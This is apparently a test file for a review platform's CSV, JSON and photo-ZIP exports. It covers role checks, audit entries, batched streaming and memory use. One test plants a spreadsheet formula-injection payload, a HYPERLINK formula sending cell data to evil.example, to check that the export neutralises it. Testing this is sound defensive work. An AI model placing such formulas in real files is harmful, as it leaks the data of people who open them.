// A campaign's published reviews as CSV and JSON: what each holds, who may take them, the audit
// entry, and that ten thousand reviews leave in batches rather than as one piece held in memory.
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ENDPOINTS } from '../../contract/endpoints'
import { fillPath } from '../../contract/paths'
import { auditLog, members, reviews } from '../db/schema'
import { createCampaign, insertReviews, type CampaignFixture } from '../test/fixtures'
import { credentialHeaders, call, createHarness, expectError, type Harness } from '../test/harness'
import { createTestStaff } from '../test/staff'
import type { TestMember } from '../test/members'
import { parseCsv } from '../services/csv'
import { formulaCells, spreadsheetCells } from '../test/spreadsheet'
import { EXPORT_BATCH, exportReviewPhotos } from './review-export'
import { unzipSync } from 'fflate'
import { photoKey } from '../services/review-photos'
import { commandLineActor } from '../actors/actor'

let h: Harness
let manager: TestMember
const DISCLOSURE = 'This reviewer received the product for free in exchange for an honest review.'

beforeAll(async () => {
  h = await createHarness()
  manager = await createTestStaff(h.deps.db, ['campaign-manager'])
})
afterAll(() => h?.close())

const reviewsOf = (campaign: CampaignFixture, count: number, options: Parameters<typeof insertReviews>[4]) =>
  insertReviews(h.deps.db, h.clock.now(), campaign, count, options)

async function download(campaign: CampaignFixture, format: 'csv' | 'json', token = manager.bearer) {
  const endpoint = format === 'csv' ? ENDPOINTS.opsCampaignReviewsCsv : ENDPOINTS.opsCampaignReviewsJson
  return h.app.request(`/${fillPath(endpoint.path, { id: campaign.campaignId })}`, { headers: credentialHeaders(token) })
}

describe("a campaign's published reviews to take away", () => {
  it('holds each published review once, newest first, with its reviewer as the public sees them, the disclosure and photo addresses', async () => {
    const campaign = await createCampaign(h.deps.db, h.clock.now())
    await reviewsOf(campaign, 3, { tag: 'pub', photo: true })
    await reviewsOf(campaign, 2, { tag: 'wait', status: 'pending' })
    // A reviewer who deleted their account stays a former member.
    await h.deps.db.update(members).set({ pseudonymizedAt: h.clock.now() }).where(eq(members.uid, 'pub-2'))

    const csv = await download(campaign, 'csv')
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const rows = parseCsv(await csv.text()).map((row) => row.fields)
    expect(rows[0]).toEqual(['Review', 'Rating', 'Title', 'Text', 'Published', 'Reviewer', 'Disclosure', 'Photos'])
    expect(rows.slice(1).map((row) => row[5])).toEqual(['Reviewer 1', 'Former member', 'Reviewer 3'])
    for (const row of rows.slice(1)) {
      expect(row[2]).toBe('Title, "quoted"')
      expect(row[3]).toMatch(/^Line one\nline two of review pub-\d$/)
      expect(row[6]).toBe(DISCLOSURE)
      expect(row[7]).toMatch(/^http:\/\/localhost:3000\/images\/reviews\/[0-9a-f-]{36}\/display$/)
    }

    const json = await download(campaign, 'json')
    expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8')
    const items = (await json.json()) as Array<Record<string, unknown>>
    expect(items.map((item) => item.reviewer)).toEqual(['Reviewer 1', 'Former member', 'Reviewer 3'])
    expect(items[0]).toMatchObject({
      rating: expect.any(Number),
      title: 'Title, "quoted"',
      disclosure: DISCLOSURE,
      photos: [expect.stringContaining('/images/reviews/')],
    })
    expect(JSON.stringify(items)).not.toContain('@example.test')

    const entries = await h.deps.db.select().from(auditLog).where(eq(auditLog.targetId, campaign.campaignId))
    expect(entries.map((entry) => [entry.action, (entry.changes.after as { format: string }).format])).toEqual([
      ['campaign.export-reviews', 'csv'],
      ['campaign.export-reviews', 'json'],
    ])
  })

  it('gives a spreadsheet no formula, with commas or semicolons as separator, whatever reviewers wrote', async () => {
    const campaign = await createCampaign(h.deps.db, h.clock.now())
    await reviewsOf(campaign, 1, { tag: 'formula' })
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    const text = 'Fine product;=1+1\n@SUM(1,2)'
    await h.deps.db.update(reviews).set({ title, body: text }).where(eq(reviews.campaignId, campaign.campaignId))
    const csv = await (await download(campaign, 'csv')).text()
    expect(formulaCells(csv)).toEqual([])
    const [, row] = spreadsheetCells(csv, ',')
    expect(row!.map((cell) => cell.text).slice(2, 4)).toEqual([`'${title}`, "Fine product;'=1+1\n'@SUM(1,2)"])
  })

  it('is an empty file for a campaign without published reviews, a 404 for none, and refused to other roles', async () => {
    const campaign = await createCampaign(h.deps.db, h.clock.now())
    expect(await (await download(campaign, 'json')).json()).toEqual([])
    expect(parseCsv(await (await download(campaign, 'csv')).text())).toHaveLength(1)
    expectError(
      await call(h.app, 'GET', fillPath(ENDPOINTS.opsCampaignReviewsCsv.path, { id: crypto.randomUUID() }), { token: manager.bearer }),
      'NOT_FOUND',
      404,
    )
    const moderator = await createTestStaff(h.deps.db, ['moderator'])
    expectError(
      await call(h.app, 'GET', fillPath(ENDPOINTS.opsCampaignReviewsCsv.path, { id: campaign.campaignId }), { token: moderator.bearer }),
      'FORBIDDEN',
      403,
    )
  })

  it('sends ten thousand reviews as they are read, a batch at a time', async () => {
    const campaign = await createCampaign(h.deps.db, h.clock.now())
    await reviewsOf(campaign, 10_000, { tag: 'many' })
    const response = await download(campaign, 'csv')
    const reader = response.body!.getReader()
    const decoder = new TextDecoder()
    const chunks: number[] = []
    let lines = 0
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      chunks.push(value.byteLength)
      lines += (decoder.decode(value, { stream: true }).match(/\r\n/g) ?? []).length
    }
    expect(lines).toBe(10_001)
    // The header, then one piece per batch: never the whole file at once.
    expect(chunks.length).toBeGreaterThanOrEqual(1 + 10_000 / EXPORT_BATCH)
    expect(Math.max(...chunks)).toBeLessThan(chunks.reduce((a, b) => a + b, 0) / 10)
  }, 180_000)

  it("puts the reviews' photos in a ZIP file after an index naming each one's review, read from the photo store", async () => {
    const campaign = await createCampaign(h.deps.db, h.clock.now())
    await reviewsOf(campaign, 3, { tag: 'zip', photo: true })
    const rows = await h.deps.db.select({ id: reviews.id, photos: reviews.photos }).from(reviews).where(eq(reviews.campaignId, campaign.campaignId))
    // Two of the three photos are in the store; the third's file is gone.
    const stored = rows.slice(0, 2)
    for (const [i, row] of stored.entries())
      await h.deps.photoStorage.put(photoKey(row.photos[0]!.id, 'display'), new Uint8Array([0xff, 0xd8, i, 0xff, 0xd9]), 'image/jpeg')

    const response = await h.app.request(`/${fillPath(ENDPOINTS.opsCampaignPhotosZip.path, { id: campaign.campaignId })}`, {
      headers: credentialHeaders(manager.bearer),
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('application/zip')
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="review-photos-\d{4}-\d\d-\d\d\.zip"$/)
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()))
    const names = Object.keys(files)
    expect(names[0]).toBe('photos.csv')
    expect(names.slice(1)).toHaveLength(2)
    const index = parseCsv(new TextDecoder().decode(files['photos.csv'])).map((row) => row.fields)
    expect(index[0]).toEqual(['File', 'Review', 'Rating', 'Title', 'Reviewer', 'Description'])
    expect(
      index
        .slice(1)
        .map((row) => row[1])
        .sort(),
    ).toEqual(rows.map((row) => row.id).sort())
    for (const [i, row] of stored.entries()) {
      const line = index.find((fields) => fields[1] === row.id)!
      expect(line[0]).toMatch(/^\d{4}-\d\d-\d\d-[0-9a-f]{8}-1\.jpg$/)
      expect(line[5]).toBe('A photo')
      expect([...files[line[0]!]!]).toEqual([0xff, 0xd8, i, 0xff, 0xd9])
    }
    const entries = await h.deps.db.select().from(auditLog).where(eq(auditLog.targetId, campaign.campaignId))
    expect(entries.map((entry) => (entry.changes.after as { format: string }).format)).toEqual(['photos'])
  })

  it("streams ten thousand reviews' photos one at a time: memory stays flat while a gigabyte goes out", async () => {
    const campaign = await createCampaign(h.deps.db, h.clock.now())
    await reviewsOf(campaign, 10_000, { tag: 'pics', photo: true })
    // A store that makes a fresh 100 KiB photo on every read, and counts the reads.
    const PHOTO = 100 * 1024
    let reads = 0
    const store = {
      ...h.deps.photoStorage,
      async get() {
        reads += 1
        return new Uint8Array(PHOTO).fill(reads % 251)
      },
    }
    const stream = await exportReviewPhotos({ ...h.deps, photoStorage: store }, commandLineActor(), campaign.campaignId, null)
    const reader = stream.getReader()
    // A reader that stops taking: nothing more is read from the store meanwhile.
    const first = await reader.read()
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(reads).toBeLessThanOrEqual(1)
    // What the process still holds once the garbage collector has run: the heap and the bytes of
    // buffers. (Resident memory also counts garbage not yet collected, which moves with the
    // collector's timing and the machine, not with what the export keeps.)
    setFlagsFromString('--expose-gc')
    const collectGarbage = runInNewContext('gc') as () => void
    const memory = () => {
      collectGarbage()
      const { heapUsed, arrayBuffers } = process.memoryUsage()
      return heapUsed + arrayBuffers
    }
    const before = memory()
    let peak = 0
    let total = first.value!.byteLength
    let pieces = 1
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      total += value.byteLength
      pieces += 1
      // The photos are read as the file is taken: never more than a couple ahead of the reader.
      if (reads > 0 && pieces % 1000 === 0) {
        expect(reads * PHOTO).toBeLessThan(total + 3 * PHOTO)
        peak = Math.max(peak, memory() - before)
      }
    }
    expect(reads).toBe(10_000)
    expect(total).toBeGreaterThan(10_000 * PHOTO)
    // Were the file held whole, what the process holds would grow by the whole gigabyte. Streamed, it
    // holds a batch of reviews and a few photos at a time (about 50 MB here): under an eighth.
    expect(peak).toBeLessThan(total / 8)
  }, 360_000)

  it('writes past 65,535 files as a ZIP64 archive that still opens whole', async () => {
    const campaign = await createCampaign(h.deps.db, h.clock.now())
    await reviewsOf(campaign, 66_000, { tag: 'z64', photo: true })
    const store = { ...h.deps.photoStorage, get: async () => new Uint8Array([0xff, 0xd8, 0xff, 0xd9]) }
    const stream = await exportReviewPhotos({ ...h.deps, photoStorage: store }, commandLineActor(), campaign.campaignId, null)
    const files = unzipSync(new Uint8Array(await new Response(stream).arrayBuffer()))
    expect(Object.keys(files)).toHaveLength(66_001)
    expect(parseCsv(new TextDecoder().decode(files['photos.csv'])).length).toBe(66_001)
  }, 300_000)
})
